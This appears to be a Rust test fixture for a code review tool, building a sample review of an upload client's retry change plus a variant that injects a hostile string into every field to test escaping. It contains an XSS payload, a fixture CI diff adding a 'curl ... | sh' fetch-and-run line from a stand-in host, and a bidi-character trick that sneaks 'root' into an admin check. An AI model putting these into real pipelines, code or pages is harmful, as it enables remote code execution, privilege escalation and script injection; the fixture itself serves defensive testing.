//! One review that shows every state of the page, and one with hostile text in every field.

use std::io::Write as _;

use super::*;

fn png(width: u32, height: u32, shade: u8) -> Vec<u8> {
    let mut raw = Vec::new();
    for y in 0..height {
        raw.push(0);
        for x in 0..width {
            let level = |n: u32, of: u32| u8::try_from(n * 255 / of.max(1)).unwrap_or(255);
            raw.extend([level(x, width), level(y, height), shade]);
        }
    }
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    zlib.write_all(&raw).expect("a vector takes every byte");
    let data = zlib.finish().expect("a vector takes every byte");
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = width.to_be_bytes().to_vec();
    header.extend(height.to_be_bytes());
    header.extend([8, 2, 0, 0, 0]);
    for (kind, body) in [(b"IHDR", &header), (b"IDAT", &data), (b"IEND", &Vec::new())] {
        out.extend(u32::try_from(body.len()).expect("small").to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(body);
        out.extend(kind);
        out.extend(body);
        out.extend(crc.sum().to_be_bytes());
    }
    out
}

const CLIENT_OLD: &str = r#"//! A client for the upload service.

use std::io;
use std::time::Duration;

use crate::config::Config;

/// Talks to one server.
pub struct Client {
    config: Config,
    session: Option<Session>,
}

impl Client {
    pub fn new(config: Config) -> Self {
        Self { config, session: None }
    }

    /// Sends one chunk and waits for the answer.
    pub fn send(&mut self, chunk: &[u8]) -> io::Result<Receipt> {
        let session = self.session()?;
        let answer = session.put(chunk)?;
        if answer.status != 200 {
            return Err(io::Error::other("upload failed"));
        }
        Ok(Receipt { id: answer.id, bytes: chunk.len() })
    }

    fn session(&mut self) -> io::Result<&mut Session> {
        if self.session.is_none() {
            self.session = Some(Session::open(&self.config)?);
        }
        self.session.as_mut().ok_or_else(|| io::Error::other("no session"))
    }

    /// Closes the session. Later calls open a new one.
    pub fn close(&mut self) {
        self.session = None;
    }
}

/// What the server said about one chunk.
pub struct Receipt {
    pub id: u64,
    pub bytes: usize,
}
"#;

const CLIENT_NEW: &str = r#"//! A client for the upload service.

use std::io;
use std::thread;
use std::time::Duration;

use crate::config::Config;

/// Talks to one server.
pub struct Client {
    config: Config,
    session: Option<Session>,
    attempts: u32,
}

impl Client {
    pub fn new(config: Config) -> Self {
        Self { config, session: None, attempts: 0 }
    }

    /// Sends one chunk and waits for the answer.
    ///
    /// Tries again after a pause that doubles, at most `config.retries` times.
    pub fn send(&mut self, chunk: &[u8]) -> io::Result<Receipt> {
        let mut pause = Duration::from_millis(self.config.first_pause_ms);
        loop {
            match self.try_send(chunk) {
                Err(error) if self.attempts < self.config.retries => {
                    self.attempts += 1;
                    log::warn!("attempt {}: {error}", self.attempts);
                    thread::sleep(pause);
                    pause *= 2;
                }
                result => return result,
            }
        }
    }

    fn try_send(&mut self, chunk: &[u8]) -> io::Result<Receipt> {
        let session = self.session()?;
        let answer = session.put(chunk)?;
        if answer.status != 200 && answer.status != 201 {
            return Err(io::Error::other(format!("upload failed: {}", answer.status)));
        }
        Ok(Receipt { id: answer.id, bytes: chunk.len(), attempts: self.attempts })
    }

    fn session(&mut self) -> io::Result<&mut Session> {
        if self.session.is_none() {
            self.session = Some(Session::open(&self.config)?);
        }
        self.session.as_mut().ok_or_else(|| io::Error::other("no session"))
    }

    /// Closes the session. Later calls open a new one.
    pub fn close(&mut self) {
        self.session = None;
        self.attempts = 0;
    }
}

/// What the server said about one chunk.
pub struct Receipt {
    pub id: u64,
    pub bytes: usize,
    pub attempts: u32,
}
"#;

/// Who made each changed line of the client, top to bottom as the difference shows them.
const CLIENT_WHO: &[&str] = &["P1"];

/// A review with every kind of change and state.
#[must_use]
pub fn rich() -> Review {
    let mut builder = Builder::new();
    plan(&mut builder);
    files(&mut builder);
    let mut review = builder.finish();
    states(&mut review);
    conversation(&mut review);
    review
}

fn plan(builder: &mut Builder) {
    let review = builder.review();
    review.repository = "upload-client".to_owned();
    review.issue.title = "Uploads fail on a flaky network".to_owned();
    review.issue.author = Some("maria-k".to_owned());
    review.issue.pull_request = Some("#431".to_owned());
    review.issue.body = Some(
        "Every second upload from the train **fails** with `upload failed`.\n\n\
         - It should try again a few times.\n- The pause should grow.\n\n\
         See [the log](https://example.invalid/log) <img src=x onerror=alert(1)>."
            .to_owned(),
    );
    review.plan.summary =
        "Try a failed upload again with growing pauses, and let the configuration say how often."
            .to_owned();
    review.plan.questions = vec!["Should a 429 answer wait for its Retry-After header?".to_owned()];

    let item = builder.item(
        "P1",
        "Retry failed uploads with backoff",
        "A single lost packet must not lose an upload: the client tries again, with a pause that \
         doubles, and tells the caller how many attempts it took.",
        &["src/client.rs", "src/client/backoff.rs", "tests/retry.rs"],
    );
    item.acceptance = vec![
        Check { kind: CheckKind::Cmd, text: "cargo test --test retry".to_owned() },
        Check { kind: CheckKind::Cmd, text: "cargo clippy -- -D warnings".to_owned() },
        Check {
            kind: CheckKind::Check,
            text: "The pause is bounded and never longer than 30 seconds.".to_owned(),
        },
    ];
    let item = builder.item(
        "P2",
        "Read retry limits from the configuration",
        "Operators set how often and how long the client tries.",
        &["src/config.rs", "src/client.rs", "config/default.toml"],
    );
    item.depends_on = vec![item_id("P1")];
    item.acceptance = vec![Check { kind: CheckKind::Cmd, text: "cargo test config".to_owned() }];
    let item = builder.item(
        "P3",
        "Document retries and refresh the logo",
        "Readers of the handbook find the new settings, with the new look.",
        &["docs/retry.md", "docs/logo.png", "docs/latest", "scripts/release.sh"],
    );
    item.files[0].kind = FileKind::Rename;
    item.files[0].renamed_from = Some("docs/network.md".to_owned());
    let item = builder.item(
        "P4",
        "Remove the old uploader",
        "Nothing calls it any more.",
        &["src/legacy.rs"],
    );
    item.depends_on = vec![item_id("P1"), item_id("P2")];
    builder.item(
        "P5",
        "Check that the changelog needs no entry",
        "The release notes are written from issues.",
        &["CHANGELOG.md"],
    );
}

fn files(builder: &mut Builder) {
    builder.file(
        ".github/workflows/ci.yml",
        Some("on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo test\n"),
        Some("on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://example.invalid/setup | sh\n      - run: cargo test\n"),
        &["a stranger"],
    );
    builder.file("Cargo.lock", Some(&lock("1.0.0")), Some(&lock("1.2.3")), &["P2"]);
    builder.file(
        "config/default.toml",
        Some("[client]\r\nserver = \"https://example.invalid\"\r\ntimeout = 30\r\n"),
        Some("[client]\r\nserver = \"https://example.invalid\"\r\ntimeout = 30\r\nretries = 5\r\nfirst_pause_ms = 200\r\n"),
        &["P2"],
    );
    builder.change(
        b"docs/latest",
        None,
        Some(Given { mode: "120000", bytes: b"network.md".to_vec() }),
        Some(Given { mode: "120000", bytes: b"retry.md".to_vec() }),
        &["P3"],
    );
    builder.change(
        b"docs/logo.png",
        None,
        Some(Given::file(png(96, 64, 40))),
        Some(Given::file(png(128, 64, 200))),
        &["P3"],
    );
    builder.change(
        b"docs/retry.md",
        Some(b"docs/network.md"),
        Some(Given::file("# Network\n\nThe client sends each chunk once.\n\n## Errors\n\nAn error ends the upload.\n")),
        Some(Given::file("# Retries\n\nThe client sends each chunk again when it fails.\n\n## Errors\n\nAn error ends the upload after the last attempt.\n\nSettings: `retries`, `first_pause_ms`.\n")),
        &["P3"],
    );
    builder.change(
        b"docs/\xfcbersicht.txt",
        None,
        None,
        Some(Given::file(&b"Gr\xfc\xdfe aus Latin-1\nzweite Zeile\n"[..])),
        &["P3"],
    );
    builder.change(
        b"scripts/release.sh",
        None,
        Some(Given::file("#!/bin/sh\nset -e\ncargo build --release\n")),
        Some(Given {
            mode: "100755",
            bytes: b"#!/bin/sh\nset -eu\ncargo build --release\n".to_vec(),
        }),
        &["P3"],
    );
    builder.file("src/client.rs", Some(CLIENT_OLD), Some(CLIENT_NEW), CLIENT_WHO);
    builder.file("src/client/backoff.rs", None, Some(&backoff()), &["P1"]);
    builder.file(
        "src/config.rs",
        Some("/// Settings of the client.\npub struct Config {\n    pub server: String,\n    pub timeout: u64,\n}\n\nimpl Config {\n    pub fn check(&self) -> bool {\n        self.timeout > 0\n    }\n}\n"),
        Some("/// Settings of the client.\npub struct Config {\n    pub server: String,\n    pub timeout: u64,\n    pub retries: u32,\n    pub first_pause_ms: u64,\n}\n\nimpl Config {\n    pub fn check(&self) -> bool {\n        self.timeout > 0 && self.retries < 20\n    }\n}\n"),
        &["P2", "P1", "P1+P2", "P1+P2"],
    );
    builder.file("src/legacy.rs", Some(&legacy()), None, &["P4"]);
    builder.file(
        "src/token.rs",
        Some("pub fn is_admin(role: &str) -> bool {\n    role == \"admin\"\n}\n"),
        Some("pub fn is_admin(role: &str) -> bool {\n    // checked above\u{202e} \u{2066}// allow only admins\u{2069} \u{2066}\n    role == \"admin\u{200b}\" || role == \"root\"   \n}\n"),
        &["P1", "P1", "somebody", "P1"],
    );
    let long: String =
        (0..400).map(|n| format!("{{\"id\":{n},\"name\":\"fixture {n}\"}},")).collect();
    builder.file(
        "tests/retry.rs",
        None,
        Some(&format!(
            "#[test]\nfn three_attempts() {{\n\tlet mut server = Server::failing(2);\n\tlet receipt = server.client().send(b\"x\").unwrap();\n\tassert_eq!(receipt.attempts, 2);\n}}\n\nconst FIXTURE: &str = r#\"[{long}]\"#;\n"
        )),
        &["P1"],
    );
    builder.change(
        b"vendor/zlib",
        None,
        Some(Given { mode: "160000", bytes: b"1111111111111111111111111111111111111111".to_vec() }),
        Some(Given { mode: "160000", bytes: b"2222222222222222222222222222222222222222".to_vec() }),
        &["somebody else"],
    );
    let review = builder.review();
    for segment in &mut review.link.segments {
        let path = review.link.files[segment.file as usize].path.lossy();
        if path == "Cargo.lock" {
            segment.tags.push(Tag::Generated);
        }
    }
}

fn lock(version: &str) -> String {
    let mut out = String::from("version = 4\n");
    for name in ["anyhow", "bytes", "log", "rand", "serde"] {
        let _ = write!(
            out,
            "\n[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = \"registry\"\n"
        );
    }
    out
}

fn backoff() -> String {
    let mut out = String::from(
        "//! Pauses that double up to a bound.\n\nuse std::time::Duration;\n\n/// Longest pause.\nconst MAX: Duration = Duration::from_secs(30);\n\n/// Gives one pause after the other.\npub struct Backoff {\n    next: Duration,\n}\n\nimpl Iterator for Backoff {\n    type Item = Duration;\n\n    fn next(&mut self) -> Option<Duration> {\n        let pause = self.next.min(MAX);\n        self.next = pause * 2;\n        Some(pause)\n    }\n}\n\n#[cfg(test)]\nmod tests {\n    use super::*;\n",
    );
    for n in 1..=12 {
        let _ = write!(
            out,
            "\n    #[test]\n    fn pause_{n}_is_bounded() {{\n        let backoff = Backoff {{ next: Duration::from_millis({}) }};\n        assert!(backoff.take({n}).all(|pause| pause <= MAX));\n    }}\n",
            n * 100
        );
    }
    out.push_str("}\n");
    out
}

fn legacy() -> String {
    let mut out = String::from("//! The old uploader.\n\n");
    for n in 0..14 {
        let _ = write!(
            out,
            "pub fn upload_v{n}(chunk: &[u8]) -> usize {{\n    chunk.len() + {n}\n}}\n\n"
        );
    }
    out
}

fn states(review: &mut Review) {
    let by = |name: &str| vec![format!("{name}, 2026-11-29 17:04")];
    let [p1, p2, p3, p4, _] = &mut review.items[..] else { return };
    p1.approval = Approval::Unreviewed;
    p1.tests = Tests::Passed { total: 2, place: "sandbox".to_owned() };
    p1.ai_review = AiReview::Open(1);
    p2.approval = Approval::Stale {
        reasons: vec![
            StaleReason {
                reason: "code".to_owned(),
                words: "Code changed".to_owned(),
                before: None,
                after: None,
            },
            StaleReason {
                reason: "definition".to_owned(),
                words: "Acceptance checks changed".to_owned(),
                before: Some("cmd: cargo test".into()),
                after: Some("cmd: cargo test config".into()),
            },
            StaleReason {
                reason: "dependency".to_owned(),
                words: "Depends on P1, which changed".to_owned(),
                before: None,
                after: None,
            },
        ],
        since: vec![SinceFile {
            path: "src/config.rs".into(),
            lines: [
                ('=', '+', "    pub retries: u32,\n"),
                ('-', '+', "    pub pause: u64,\n"),
                ('+', '+', "    pub first_pause_ms: u64,\n"),
                ('=', '-', "        self.timeout > 0\n"),
            ]
            .into_iter()
            .map(|(status, op, text)| SinceLine {
                status,
                op,
                text: text.into(),
                context: "pub struct Config {".into(),
            })
            .collect(),
            meta: Some(("mode 100755".to_owned(), "mode 100644".to_owned())),
        }],
    };
    p2.approved_by = by("R. Viewer");
    p2.tests = Tests::Failed {
        failed: 1,
        total: 3,
        output: b"test config::limits ... \x1b[31mFAILED\x1b[0m\n\nassertion failed: limits(20)\n"
            .to_vec()
            .into(),
    };
    p2.ai_review = AiReview::NoneOpen;
    p3.approval = Approval::Unreviewed;
    p3.tests = Tests::NoneDefined;
    p4.approval = Approval::Approved;
    p4.approved_by = by("R. Viewer");
    p4.tests = Tests::OutOfDate { total: 1 };

    let unplanned: Vec<(u32, codeboost_schema::ids::SegmentKey)> = review
        .link
        .segments
        .iter()
        .filter(|one| one.row == Row::Unplanned && matches!(one.body, Body::File(_)))
        .map(|one| (one.id, one.key.clone()))
        .collect();
    for (segment, key) in unplanned {
        review.choices.push(Choice {
            segment,
            key,
            item: None,
            by: "R. Viewer, 2026-11-29 17:10".to_owned(),
        });
        review.acknowledgements.push(Acknowledgement { segment, tag: "submodule".to_owned() });
    }
    review.blockers = [
        ("approval", "Approve 3 items and review 1 stale item", Some(Target::Row("P1".to_owned()))),
        ("ambiguous", "Resolve 2 ambiguous changes", Some(Target::Row("ambiguous".to_owned()))),
        ("unplanned", "Resolve 2 unplanned changes", Some(Target::Row("unplanned".to_owned()))),
        ("tests", "Open failed check: cargo test config", Some(Target::Row("P2".to_owned()))),
        ("problem", "Fix or accept 1 problem", Some(Target::Row("P1".to_owned()))),
        ("requests", "Send 1 pending change request", Some(Target::Notes(item_id("P1")))),
    ]
    .into_iter()
    .map(|(code, words, target)| Blocker { code: code.to_owned(), words: words.to_owned(), target })
    .collect();
    review.task = Some(Task {
        state: "needs human".to_owned(),
        headline: Some("Review rounds stopped after 3. 1 problem is still open.".to_owned()),
        actions: [
            ("review-anyway", "Review anyway"),
            ("add-guidance", "Add guidance"),
            ("cancel", "Cancel task"),
        ]
        .into_iter()
        .map(|(word, label)| (word.to_owned(), label.to_owned()))
        .collect(),
        cause: Some("rounds".to_owned()),
    });
    review.merge_steps = [
        ("Fetch", "done", Some(1), None),
        ("Rebase", "done", Some(3), None),
        ("Push", "done", Some(2), None),
        ("Re-run checks", "failed", Some(48), Some("cargo test config in P2")),
        ("GitHub checks", "skipped", None, None),
        ("Already-fixed check", "skipped", None, None),
        ("Merge", "skipped", None, None),
    ]
    .into_iter()
    .map(|(name, state, seconds, detail)| MergeStep {
        name: name.to_owned(),
        state: state.to_owned(),
        seconds,
        detail: detail.map(str::to_owned),
    })
    .collect();
    review.notices = vec![
        "GitHub's required checks were read 3 hours ago; they are read again before the merge."
            .to_owned(),
    ];
}

fn conversation(review: &mut Review) {
    let first = review
        .link
        .segments
        .iter()
        .find(|one| one.row == Row::Item(item_id("P1")))
        .map(|one| one.id);
    let note = |id: u8, kind, item: &str, text: &str| Note {
        id: format!("00000000-0000-4000-8000-0000000000{id:02}"),
        kind,
        item: item_id(item),
        segment: None,
        lines: None,
        text: text.to_owned(),
        by: "R. Viewer, 2026-11-29 16:40".to_owned(),
        answer: None,
        outdated: false,
    };
    review.notes = vec![
        Note {
            answer: Some("Because `send` is called for each chunk.\n\n1. The counter is reset in `close`.\n2. A new session starts at zero.".to_owned()),
            outdated: true,
            ..note(1, NoteKind::Question, "P1", "Why is `attempts` a field and not a local variable?")
        },
        Note {
            segment: first,
            lines: Some((1, 1)),
            ..note(2, NoteKind::Request, "P1", "Use the crate's own timer instead of `thread::sleep`.")
        },
        note(3, NoteKind::Sent, "P1", "Name the status in the error."),
        note(4, NoteKind::Question, "P3", "Is the new logo free to use?"),
    ];
    review.problems = vec![Problem {
        id: "00000000-0000-4000-8000-000000000011".to_owned(),
        item: item_id("P1"),
        state: "open".to_owned(),
        text: "`attempts` is never reset after a success, so the second upload has fewer retries."
            .to_owned(),
        source: "review round 3".to_owned(),
    }];
    review.findings = vec![Finding {
        id: "00000000-0000-4000-8000-000000000021".to_owned(),
        subject: "A test was weakened".to_owned(),
        state: "open".to_owned(),
        location: Some("tests/retry.rs:5".to_owned()),
        text: "The assertion accepts any number of attempts.".to_owned(),
    }];
}

/// Text that must stay text wherever it is shown.
pub(crate) const HOSTILE: &str = "</script><!--<script><img src=x onerror=\"document.title='owned'\">\u{2028}\u{202e}\u{1b}[31m'\"`${1}]]>&amp;\u{200b}__proto__";

/// A review with hostile text in every field that takes text.
#[must_use]
pub fn hostile() -> Review {
    let mut review = rich();
    let add = |text: &mut String| text.push_str(HOSTILE);
    let bytes =
        |text: &mut RepoBytes| *text = [text.as_bytes(), HOSTILE.as_bytes()].concat().into();
    add(&mut review.repository);
    add(&mut review.issue.title);
    review.issue.body.iter_mut().for_each(add);
    review.issue.author.iter_mut().for_each(add);
    review.issue.pull_request.iter_mut().for_each(add);
    add(&mut review.plan.summary);
    review.plan.questions.iter_mut().for_each(add);
    for item in &mut review.plan.items {
        add(&mut item.title);
        add(&mut item.intent);
        item.acceptance.iter_mut().for_each(|check| add(&mut check.text));
        for file in &mut item.files {
            add(&mut file.change);
            add(&mut file.path);
        }
    }
    for file in &mut review.link.files {
        bytes(&mut file.path);
        file.old_path.iter_mut().for_each(bytes);
        for side in [&mut file.old, &mut file.new].into_iter().flatten() {
            side.target.iter_mut().for_each(bytes);
        }
    }
    for segment in &mut review.link.segments {
        if let Body::Text(text) = &mut segment.body {
            bytes(&mut text.context);
            if text.text.as_bytes().ends_with(b"\n") {
                let line = [HOSTILE.replace('\u{2028}', "").as_bytes(), b"\n"].concat();
                let mut all = text.text.as_bytes().to_vec();
                all.truncate(all.len() - 1);
                all.extend(line);
                text.text = all.into();
            }
        }
    }
    for commit in review.commits.values_mut() {
        bytes(&mut commit.subject);
        bytes(&mut commit.author);
        add(&mut commit.authored_at);
    }
    for item in &mut review.items {
        item.approved_by.iter_mut().for_each(add);
        if let Approval::Stale { reasons, since } = &mut item.approval {
            for reason in reasons {
                add(&mut reason.words);
                reason.before.iter_mut().for_each(bytes);
                reason.after.iter_mut().for_each(bytes);
            }
            for file in since {
                bytes(&mut file.path);
                if let Some((before, after)) = &mut file.meta {
                    add(before);
                    add(after);
                }
                file.lines.iter_mut().for_each(|line| bytes(&mut line.context));
            }
        }
        match &mut item.tests {
            Tests::Passed { place, .. } => add(place),
            Tests::Failed { output, .. } => bytes(output),
            Tests::NotRun { .. } | Tests::OutOfDate { .. } | Tests::NoneDefined => {}
        }
    }
    review.choices.iter_mut().for_each(|choice| add(&mut choice.by));
    for note in &mut review.notes {
        add(&mut note.text);
        add(&mut note.by);
        note.answer.iter_mut().for_each(add);
    }
    for problem in &mut review.problems {
        add(&mut problem.text);
        add(&mut problem.source);
    }
    for finding in &mut review.findings {
        add(&mut finding.subject);
        add(&mut finding.text);
        finding.location.iter_mut().for_each(add);
    }
    review.blockers.iter_mut().for_each(|blocker| add(&mut blocker.words));
    if let Some(task) = &mut review.task {
        task.headline.iter_mut().for_each(add);
        task.actions.iter_mut().for_each(|(_, label)| add(label));
    }
    for step in &mut review.merge_steps {
        add(&mut step.name);
        step.detail.iter_mut().for_each(add);
    }
    review.notices.iter_mut().for_each(add);
    review.reviewers.push(HOSTILE.to_owned());
    review
}
